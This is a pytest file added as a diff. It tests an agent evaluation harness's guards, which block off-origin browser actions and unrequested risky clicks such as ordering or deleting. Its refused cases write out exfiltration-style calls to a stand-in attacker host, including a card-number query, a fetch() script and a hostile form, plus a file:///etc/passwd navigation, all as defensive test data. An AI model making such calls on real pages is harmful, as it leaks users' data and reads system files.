@@ -1,0 +1,185 @@
+"""The guards ``origins`` and ``confirm``, asked about calls on pages."""
+
+from __future__ import annotations
+
+import asyncio
+import inspect
+from typing import Any
+
+import pytest
+from pydantic import ValidationError
+
+from pytest_browsereval.config.guard import GuardConfig, GuardedCall
+from pytest_browsereval.features.guards.confirm import ConfirmGuard
+from pytest_browsereval.features.guards.origins import OriginsGuard
+from pytest_browsereval.model.tasks import Task
+from tests.support import StillWindow, Visit, Visits
+
+EVIL = "http://evil.localhost:9"
+
+
+def ask(
+    guard: GuardConfig, opened: Visit, tool: str, *, query: str = "Look at the shop.", **arguments: Any
+) -> Any:
+    """Return what a guard says of a call on the page that is open."""
+    task = Task(query_id="a", query=query, dataset="unit", graders=["answer"], start_url=opened.window.url)
+    sites = {"other": "http://other.localhost:9", "attacker": EVIL}
+    known = opened.tools._tools.get(tool)
+    values = known.check_arguments(arguments) if known else arguments
+    call = GuardedCall(tool, values, task, opened.window, opened.capture, (guard,), sites)
+    return _wait(opened, guard, call)
+
+
+def _wait(opened: Visit, guard: GuardConfig, call: GuardedCall) -> str | None:
+    async def check() -> str | None:
+        found = guard.check(call)
+        return await found if inspect.isawaitable(found) else found
+
+    return opened.run(check())
+
+
+ALLOWED: dict[str, tuple[str, dict[str, Any]]] = {
+    "relative": ("navigate", {"url": "/cart"}),
+    "another site of the row": ("navigate", {"url": "http://other.localhost:9/x"}),
+    "an empty page": ("navigate", {"url": "about:blank"}),
+    "a link of the page": ("click", {"target": "text=Cart"}),
+    "a foreign address that is typed": ("fill", {"target": "label=Voucher", "text": EVIL}),
+    "an answer": ("done", {"answer": EVIL}),
+    "a look": ("snapshot", {}),
+    "nothing there": ("click", {"target": "text=Missing"}),
+}
+REFUSED: dict[str, tuple[str, dict[str, Any]]] = {
+    "an address": ("navigate", {"url": f"{EVIL}/collect?x=4111"}),
+    "in a new tab": ("open_tab", {"url": EVIL}),
+    "without a scheme": ("navigate", {"url": "//evil.localhost:9/x"}),
+    "a user that looks like a host": ("navigate", {"url": "http://shop.example@evil.localhost:9/"}),
+    "a script": ("evaluate", {"expression": f"fetch('{EVIL}/x')"}),
+    "a link": ("click", {"target": "text=Prize"}),
+    "within a link": ("click", {"target": "css=#inner"}),
+    "a form": ("click", {"target": "text=Send it"}),
+    "Enter": ("press_key", {"target": "label=Voucher", "key": "Enter"}),
+    "a tool of a server": ("browser_tabs", {"tabs": [{"url": EVIL}], "note": f"see {EVIL}/x"}),
+}
+PAGE = f"""<a href="/cart">Cart</a> <a href="{EVIL}/prize">Prize <b id="inner">now</b></a>
+<form action="{EVIL}/collect"><input aria-label="Voucher"><button>Send it</button></form>"""
+
+
+@pytest.mark.parametrize("case", ALLOWED)
+def test_origins_lets_pass(visit: Visits, case: str) -> None:
+    """What stays with the origins that the task has to do with."""
+    tool, arguments = ALLOWED[case]
+    opened = visit(PAGE)
+    opened.limit(action_s=0.2)
+    assert ask(OriginsGuard(), opened, tool, **arguments) is None
+
+
+@pytest.mark.parametrize("case", REFUSED)
+def test_origins_refuses(visit: Visits, case: str) -> None:
+    """What leads to another origin, the attacker's among them, though that is a site of the config."""
+    tool, arguments = REFUSED[case]
+    said = ask(OriginsGuard(), visit(PAGE), tool, **arguments)
+    assert said is not None
+    assert "evil.localhost:9" in said
+    assert ask(OriginsGuard(allow=("*.localhost",)), visit(PAGE), tool, **arguments) is None
+
+
+def test_origins_refuses_what_is_no_web_address(visit: Visits) -> None:
+    """A file of the machine is of no origin that could be allowed."""
+    said = ask(OriginsGuard(allow=("*",)), visit(), "navigate", url="file:///etc/passwd")
+    assert said == "file:// is not among the allowed origins."
+
+
+def test_origins_lets_an_agent_leave_a_foreign_page(visit: Visits) -> None:
+    """Where a page has led to one, nothing is read or done on it, and the way back is open."""
+    opened = visit("<button>Go</button>")
+    home = opened.window.url
+    opened.output("navigate", url=home.replace("127.0.0.1", "localhost"))
+    task = Task(query_id="a", query="Look.", dataset="unit", graders=["answer"], start_url=home)
+
+    def check(tool: str, **arguments: Any) -> Any:
+        call = GuardedCall(tool, arguments, task, opened.window, opened.capture, (), {})
+        return _wait(opened, OriginsGuard(), call)
+
+    for said in (check("read_text"), check("click", target="text=Go"), check("type_keys", text="x")):
+        assert str(said).startswith("the current page, http://localhost:")
+    assert check("go_back") is check("navigate", url=home) is check("done", answer="x") is None
+
+
+def test_a_wrong_pattern_is_refused() -> None:
+    """Before the run: a path is more than an origin."""
+    with pytest.raises(ValidationError, match="is not a pattern of origins"):
+        OriginsGuard(allow=("http://a/b",))
+
+
+RISKY: dict[str, tuple[str, dict[str, Any], str]] = {
+    "its text": ("click", {"target": "text=Place order"}, "'Place order' may order"),
+    "its name": ("click", {"target": "text=X"}, "'Delete account' may delete"),
+    "a part of it": ("click", {"target": "css=#inner"}, "'Pay now' may pay"),
+    "a picture": ("click", {"target": "css=a.picture"}, "'Remove item' may remove"),
+    "the button that Enter presses": (
+        "press_key",
+        {"target": "label=Voucher", "key": "Enter"},
+        "'Place order' may order",
+    ),
+    "Enter at the end of a text": ("type_text", {"target": "label=Voucher", "text": "x\n"}, "may order"),
+    "a point": ("click_at", {"x": 20, "y": 20}, "'Publish' may publish"),
+}
+HARMLESS: dict[str, tuple[str, dict[str, Any]]] = {
+    "other words": ("click", {"target": "text=Details"}),
+    "a part of a word": ("click", {"target": "text=Reorder"}),
+    "typing": ("fill", {"target": "label=Voucher", "text": "order"}),
+    "a look": ("read_text", {"target": "text=Place order"}),
+    "an answer": ("done", {"answer": "I did not order."}),
+}
+BUTTONS = """<button style="position:fixed;left:0;top:0;width:60px;height:40px">Publish</button><br><br><br>
+<form><input aria-label="Voucher"><button>Place order</button></form>
+<button aria-label="Delete account">X</button> <button>Pay <b id="inner">now</b></button>
+<a class="picture" href="/x"><img alt="Remove item"></a> <button>Details</button> <button>Reorder</button>"""
+
+
+@pytest.mark.parametrize("case", RISKY)
+def test_confirm_refuses_what_the_task_does_not_ask_for(visit: Visits, case: str) -> None:
+    """By the words on what is set off; with one of the group in the query it is done."""
+    tool, arguments, said = RISKY[case]
+    opened = visit(BUTTONS)
+    assert said in ask(ConfirmGuard(), opened, tool, **arguments)
+    query = "Buy, delete and publish all that there is."
+    assert ask(ConfirmGuard(), opened, tool, query=query, **arguments) is None
+
+
+@pytest.mark.parametrize("case", HARMLESS)
+def test_confirm_lets_pass(visit: Visits, case: str) -> None:
+    """What sets nothing off, or nothing risky."""
+    tool, arguments = HARMLESS[case]
+    assert ask(ConfirmGuard(), visit(BUTTONS), tool, **arguments) is None
+
+
+def test_confirm_reads_a_dialog(visit: Visits) -> None:
+    """To accept it is risky by its message; to dismiss it is not."""
+    opened = visit("<button onclick=\"confirm('Delete it?')\">Details</button>")
+    opened.output("click", target="text=Details")
+    assert "'Delete it?' may delete" in ask(ConfirmGuard(), opened, "handle_dialog", accept=True)
+    assert ask(ConfirmGuard(), opened, "handle_dialog", accept=False) is None
+    opened.output("handle_dialog", accept=False)
+
+
+def test_confirm_takes_words_of_the_config(visit: Visits) -> None:
+    """They replace ours."""
+    guard = ConfirmGuard(words=(("details",),))
+    assert "may details" in ask(guard, visit(BUTTONS), "click", target="text=Details")
+    assert ask(guard, visit(BUTTONS), "click", target="text=Place order") is None
+
+
+def test_confirm_reads_what_a_call_says_where_no_page_can_be_read() -> None:
+    """In a browser that brings its own tools: its description of the element, not what is typed."""
+    task = Task(query_id="a", query="Look.", dataset="unit", graders=["answer"])
+    window = StillWindow("http://127.0.0.1/")
+
+    def check(tool: str, **arguments: Any) -> str | None:
+        call = GuardedCall(tool, arguments, task, window, None, (), {})  # type: ignore[arg-type]
+        return asyncio.run(ConfirmGuard().check(call))
+
+    assert "may order" in str(check("browser_click", element="Place order button", ref="e2"))
+    assert check("browser_click", element="Cart link", ref="e3") is None
+    assert check("browser_type", element="Search", ref="e4", text="order") is None
+    assert "may send" in str(check("browser_type", element="Send to", text="x", submit=True))
